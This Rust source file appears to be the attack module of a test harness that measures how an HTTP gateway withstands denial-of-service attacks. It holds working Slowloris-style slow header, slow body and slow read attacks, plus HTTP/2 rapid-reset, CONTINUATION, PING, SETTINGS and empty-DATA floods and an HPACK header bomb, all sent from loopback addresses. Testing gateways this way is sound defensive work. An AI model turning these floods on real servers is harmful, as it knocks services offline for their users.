//! The attacks. Each attacker reconnects when it is cut off, at most ten times a second.

use std::io;
use std::net::{Ipv4Addr, SocketAddr};
use std::process::ExitCode;
use std::sync::{Arc, Mutex, PoisonError};
use std::time::{Duration, Instant};

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpSocket, TcpStream};
use tokio::time::{sleep, timeout_at};

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Attack {
    SlowHeader,
    SlowBody,
    SlowRead,
    H2SlowBody,
    H2SlowRead,
    H2RapidReset,
    H2Continuation,
    H2Ping,
    H2Settings,
    H2EmptyData,
    H2HeaderBomb,
}

impl Attack {
    pub const ALL: [Attack; 11] = [
        Attack::SlowHeader,
        Attack::SlowBody,
        Attack::SlowRead,
        Attack::H2SlowBody,
        Attack::H2SlowRead,
        Attack::H2RapidReset,
        Attack::H2Continuation,
        Attack::H2Ping,
        Attack::H2Settings,
        Attack::H2EmptyData,
        Attack::H2HeaderBomb,
    ];

    pub fn name(self) -> &'static str {
        match self {
            Attack::SlowHeader => "slow-header",
            Attack::SlowBody => "slow-body",
            Attack::SlowRead => "slow-read",
            Attack::H2SlowBody => "h2-slow-body",
            Attack::H2SlowRead => "h2-slow-read",
            Attack::H2RapidReset => "h2-rapid-reset",
            Attack::H2Continuation => "h2-continuation",
            Attack::H2Ping => "h2-ping",
            Attack::H2Settings => "h2-settings",
            Attack::H2EmptyData => "h2-empty-data",
            Attack::H2HeaderBomb => "h2-header-bomb",
        }
    }

    pub fn what(self) -> &'static str {
        match self {
            Attack::SlowHeader => "a request's head, a byte a second",
            Attack::SlowBody => "a request's body, a byte a second",
            Attack::SlowRead => "8 MiB asked for and never read",
            Attack::H2SlowBody => "the same as streams: 50 bodies that stop",
            Attack::H2SlowRead => "50 streams of 8 MiB with every window open, and nothing read",
            Attack::H2RapidReset => "requests, each reset at once",
            Attack::H2Continuation => "a header block that never ends",
            Attack::H2Ping => "pings",
            Attack::H2Settings => "settings",
            Attack::H2EmptyData => "empty DATA frames",
            Attack::H2HeaderBomb => "one big field in the dynamic table, named 11,000 times in each request",
        }
    }

    pub fn named(name: &str) -> Result<Attack, String> {
        Attack::ALL.into_iter().find(|attack| attack.name() == name).ok_or_else(|| format!("no attack {name}"))
    }

    /// Whether it lives on sending much, not on holding many connections.
    pub fn is_flood(self) -> bool {
        !matches!(self, Attack::SlowHeader | Attack::SlowBody | Attack::SlowRead)
    }
}

/// `attack NAME ADDRESS CONNECTIONS SECONDS`. Prints how many connections were opened, how many of them the gateway closed,
/// and the median and the longest time that those lived.
pub fn main(arguments: &[String]) -> ExitCode {
    let [name, address, connections, seconds] = arguments else { return ExitCode::from(2) };
    let (Ok(attack), Ok(address), Ok(connections), Ok(seconds)) =
        (Attack::named(name), address.parse(), connections.parse::<usize>(), seconds.parse())
    else {
        return ExitCode::from(2);
    };
    let Ok(runtime) = tokio::runtime::Builder::new_current_thread().enable_all().build() else {
        return ExitCode::FAILURE;
    };
    let end = Instant::now() + Duration::from_secs(seconds);
    let tally = Arc::new(Mutex::new(Tally::default()));
    runtime.block_on(async {
        let attackers: Vec<_> =
            (0..connections).map(|n| tokio::spawn(attack_until(attack, address, n, end, tally.clone()))).collect();
        for attacker in attackers {
            let _ = attacker.await;
        }
    });
    let mut tally = tally.lock().unwrap_or_else(PoisonError::into_inner);
    tally.lives.sort_unstable();
    let seconds = |life: Option<&Duration>| life.map_or("-".into(), |life| format!("{:.1}s", life.as_secs_f64()));
    let (median, oldest) = (seconds(tally.lives.get(tally.lives.len() / 2)), seconds(tally.lives.last()));
    println!("{} {} {median} {oldest}", tally.opened, tally.lives.len());
    ExitCode::SUCCESS
}

#[derive(Default)]
struct Tally {
    opened: usize,
    /// Of connections that the gateway has closed.
    lives: Vec<Duration>,
}

async fn attack_until(attack: Attack, address: SocketAddr, number: usize, end: Instant, tally: Arc<Mutex<Tally>>) {
    while Instant::now() < end {
        if let Ok(stream) = connect(address, number).await {
            tally.lock().unwrap_or_else(PoisonError::into_inner).opened += 1;
            let start = Instant::now();
            // An error and an end are the same here: the gateway has closed it.
            if timeout_at(end.into(), hold(attack, stream)).await.is_ok() {
                tally.lock().unwrap_or_else(PoisonError::into_inner).lives.push(start.elapsed());
            }
        }
        sleep(Duration::from_millis(100)).await;
    }
}

/// From one of 200 addresses, since a botnet has more than one.
async fn connect(address: SocketAddr, number: usize) -> io::Result<TcpStream> {
    let socket = TcpSocket::new_v4()?;
    socket.bind((Ipv4Addr::new(127, 0, 1, (number % 200) as u8 + 1), 0).into())?;
    // So that an answer which nobody reads can't hide in the kernel.
    socket.set_recv_buffer_size(4 << 10)?;
    let stream = socket.connect(address).await?;
    stream.set_nodelay(true)?;
    Ok(stream)
}

/// Attacks until the gateway closes the connection.
async fn hold(attack: Attack, mut stream: TcpStream) -> io::Result<()> {
    match attack {
        Attack::SlowHeader => {
            stream.write_all(b"GET / HTTP/1.1\r\nHost: attack.test\r\nX-Slow: ").await?;
            drip(stream).await
        }
        Attack::SlowBody => {
            stream.write_all(b"POST / HTTP/1.1\r\nHost: attack.test\r\nContent-Length: 1000000\r\n\r\n").await?;
            drip(stream).await
        }
        Attack::SlowRead => {
            stream.write_all(b"GET /large HTTP/1.1\r\nHost: attack.test\r\n\r\n").await?;
            never_read(stream, b"\r\n").await
        }
        Attack::H2SlowBody => {
            let streams = (0..50).flat_map(|n| [head(2 * n + 1, "POST", "/", 0), frame(DATA, 0, 2 * n + 1, b"half")]);
            stream.write_all(&[begin(&[]), streams.flatten().collect()].concat()).await?;
            read_to_end(stream).await
        }
        Attack::H2SlowRead => {
            let windows = [&[0, 4][..], &0x7fff_ffffu32.to_be_bytes()].concat();
            let wide = frame(WINDOW_UPDATE, 0, 0, &0x7fff_0000u32.to_be_bytes());
            let streams = (0..50).flat_map(|n| head(2 * n + 1, "GET", "/large", END_STREAM));
            stream.write_all(&[begin(&windows), wide, streams.collect()].concat()).await?;
            never_read(stream, &frame(PING, 0, 0, &[0; 8])).await
        }
        Attack::H2RapidReset => {
            let request =
                |n: u32| [head(2 * n + 1, "GET", "/", END_STREAM), frame(RST_STREAM, 0, 2 * n + 1, &[0; 4])].concat();
            flood(stream, &begin(&[]), request).await
        }
        Attack::H2Continuation => {
            let start = [begin(&[]), frame(HEADERS, END_STREAM, 1, &block("GET", "/"))].concat();
            flood(stream, &start, |_| frame(CONTINUATION, 0, 1, b"\0\x01a\x01a")).await
        }
        Attack::H2Ping => flood(stream, &begin(&[]), |_| frame(PING, 0, 0, &[0; 8])).await,
        Attack::H2Settings => flood(stream, &begin(&[]), |_| frame(SETTINGS, 0, 0, &[])).await,
        Attack::H2EmptyData => {
            let start = [begin(&[]), head(1, "POST", "/", 0)].concat();
            flood(stream, &start, |_| frame(DATA, 0, 1, &[])).await
        }
        Attack::H2HeaderBomb => {
            let bomb = |n: u32| {
                let mut block = block("GET", "/");
                // A field of 3,900 bytes for the dynamic table, and references of a byte each.
                block.extend_from_slice(b"\x40\x01x\x7f\xbd\x1d");
                block.extend_from_slice(&[b'b'; 3900]);
                block.extend_from_slice(&[0xbe; 11_000]);
                frame(HEADERS, END_STREAM | END_HEADERS, 2 * n + 1, &block)
            };
            flood(stream, &begin(&[]), bomb).await
        }
    }
}

/// A byte a second, until the gateway has had enough.
async fn drip(mut stream: TcpStream) -> io::Result<()> {
    let mut answer = [0; 1024];
    loop {
        stream.write_all(b"a").await?;
        let read = tokio::time::timeout(Duration::from_secs(1), stream.read(&mut answer)).await;
        if matches!(read, Ok(Ok(0) | Err(_))) {
            return Ok(());
        }
    }
}

/// Writes until the gateway takes no more; reads what it says meanwhile.
async fn flood(stream: TcpStream, start: &[u8], frames: impl Fn(u32) -> Vec<u8>) -> io::Result<()> {
    let (reader, mut writer) = stream.into_split();
    let reading = tokio::spawn(read_to_end(reader));
    let written = async {
        writer.write_all(start).await?;
        let mut n = 0;
        loop {
            let mut batch = Vec::new();
            for _ in 0..32 {
                batch.extend(frames(n));
                n += 1;
            }
            writer.write_all(&batch).await?;
        }
    };
    let written: io::Result<()> = written.await;
    let _ = reading.await;
    written
}

async fn read_to_end(mut stream: impl tokio::io::AsyncRead + Unpin) -> io::Result<()> {
    let mut buffer = [0; 4096];
    while stream.read(&mut buffer).await? > 0 {}
    Ok(())
}

/// Reads nothing. After 35 seconds, when the default bounds should have ended it, sends `sign` each second: what the gateway
/// has closed does not take it. Not before, since a client that sends is none that does nothing.
async fn never_read(mut stream: TcpStream, sign: &[u8]) -> io::Result<()> {
    sleep(Duration::from_secs(35)).await;
    loop {
        sleep(Duration::from_secs(1)).await;
        stream.write_all(sign).await?;
    }
}

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// The preface and SETTINGS.
fn begin(settings: &[u8]) -> Vec<u8> {
    [&b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"[..], &frame(SETTINGS, 0, 0, settings)].concat()
}

fn head(stream: u32, method: &str, path: &str, flags: u8) -> Vec<u8> {
    frame(HEADERS, END_HEADERS | flags, stream, &block(method, path))
}

/// Literals without indexing (RFC 7541 §6.2.2), none of 127 bytes or more.
fn block(method: &str, path: &str) -> Vec<u8> {
    let fields = [(":method", method), (":scheme", "http"), (":authority", "attack.test"), (":path", path)];
    fields
        .iter()
        .flat_map(|(name, value)| {
            [&[0, name.len() as u8], name.as_bytes(), &[value.len() as u8], value.as_bytes()].concat()
        })
        .collect()
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = (payload.len() as u32).to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}
